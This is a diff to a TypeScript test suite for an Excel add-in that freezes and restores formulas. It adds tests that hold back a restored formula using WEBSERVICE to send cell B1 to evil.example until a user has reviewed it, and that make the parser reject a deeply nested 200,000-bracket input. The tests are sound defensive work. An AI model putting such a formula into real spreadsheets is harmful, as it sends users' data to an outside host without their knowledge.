@@ -180,10 +180,14 @@ describe("unfreezing", () => {
 
 describe("formulas that are brought back into a sheet", () => {
   /** Three frozen formulas, and an Excel that does with each row what is said; it is cancelled once they are there. */
-  async function unfreeze(excel: (row: number) => string | null) {
+  async function unfreeze(
+    excel: (row: number) => string | null,
+    { foreign, isSeen }: { foreign?: string; isSeen?: boolean } = {},
+  ) {
     const stop = new AbortController();
     const shown = contents({ 0: ["a"], 1: ["b"], 2: ["c"] });
     const { formulas } = planFreeze([cell(0), cell(1), cell(2)], shown, new Map());
+    if (foreign !== undefined && formulas[1]) formulas[1].formula = foreign;
     const now = new Map(shown);
     const kept = new Map(
       frozenXml({ atMs: 5, formulas, unreadable: [] }).map((xml, id) => [String(id), xml]),
@@ -217,7 +221,7 @@ describe("formulas that are brought back into a sheet", () => {
         return Promise.resolve(0);
       },
     };
-    const options = { signal: stop.signal, onProgress: () => undefined, namespace: "REGDATA", calls };
+    const options = { signal: stop.signal, onProgress: () => undefined, namespace: "REGDATA", calls, isSeen };
     const rowsOf = (each: readonly { row: number }[]) => each.map(({ row }) => row);
     const remembered = () =>
       rowsOf([...kept.values()].flatMap((xml) => parseFrozenXml(xml, "REGDATA")?.formulas ?? []));
@@ -238,6 +242,25 @@ describe("formulas that are brought back into a sheet", () => {
     const { report, remembered } = await unfreeze((row) => (row === 1 ? there : formula));
     expect(report).toMatchObject({ back: [{ row: 0 }, { row: 2 }], left: [{ row: 1, reason }] });
     expect(remembered).toEqual([1]);
+  });
+
+  it("do not come back before they were seen where they do more than calculate", async () => {
+    const foreign = `=WEBSERVICE("https://evil.example/?"&B1)&${formula.slice(1)}`;
+    const entered: string[] = [];
+    const excel = (row: number) => {
+      entered.push(row === 1 ? foreign : formula);
+      return row === 1 ? foreign : formula;
+    };
+    const { report, remembered } = await unfreeze(excel, { foreign });
+    expect(report).toMatchObject({
+      back: [{ row: 0 }, { row: 2 }],
+      left: [],
+      toBeSeen: [{ row: 1, formula: foreign }],
+    });
+    expect(entered).not.toContain(foreign);
+    expect(remembered).toEqual([1]);
+    const { report: after } = await unfreeze(excel, { foreign, isSeen: true });
+    expect(after).toMatchObject({ back: [{ row: 0 }, { row: 1 }, { row: 2 }], toBeSeen: [] });
   });
 
   it("stay frozen, with Excel's words, where it refuses them all", async () => {
@@ -284,6 +307,12 @@ describe("what the workbook keeps of frozen formulas", () => {
     // It is kept as it is when the part is written again.
     const [again = ""] = frozenXml({ atMs: 5, formulas: [], unreadable: [damaged] });
     expect(parseFrozenXml(again, "REGDATA")).toEqual({ atMs: 5, formulas: [], unreadable: [damaged] });
+  });
+
+  it("counts for nothing where it is nested deeper than anything that the add-in writes", () => {
+    const deep = `${"[".repeat(200_000)}${"]".repeat(200_000)}`;
+    const xml = part({ formulas: ["deep"] }).replace('"deep"', deep);
+    expect(parseFrozenXml(xml, "REGDATA")).toBeNull();
   });
 
   it("counts for nothing where another version wrote it", () => {
